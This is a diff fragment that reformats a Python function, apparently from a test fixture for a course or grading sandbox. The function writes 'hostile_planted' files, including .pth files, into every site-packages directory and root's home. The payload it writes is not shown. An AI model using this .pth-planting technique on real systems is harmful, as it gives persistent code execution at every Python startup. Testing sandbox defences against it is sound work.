@@ -9,12 +9,22 @@ import course as _course
 
 
 def _plant():
-    folders = [*_site.getsitepackages(), *(p for p in _sys.path if p.endswith("site-packages")),
-               _os.path.join(_os.path.expanduser("~root"), ".local", "lib", f"python{_sys.version_info[0]}."
-                             f"{_sys.version_info[1]}", "site-packages")]
+    folders = [
+        *_site.getsitepackages(),
+        *(p for p in _sys.path if p.endswith("site-packages")),
+        _os.path.join(
+            _os.path.expanduser("~root"),
+            ".local",
+            "lib",
+            f"python{_sys.version_info[0]}.{_sys.version_info[1]}",
+            "site-packages",
+        ),
+    ]
     targets = [_os.path.join(folder, "zz_hostile_planted.pth") for folder in folders]
-    targets += [_os.path.join(_os.path.dirname(_course.__file__), "hostile_planted.py"),
-                _os.path.join(_os.path.expanduser("~root"), "hostile_planted")]
+    targets += [
+        _os.path.join(_os.path.dirname(_course.__file__), "hostile_planted.py"),
+        _os.path.join(_os.path.expanduser("~root"), "hostile_planted"),
+    ]
     for path in targets:
         try:
             with open(path, "w") as handle:
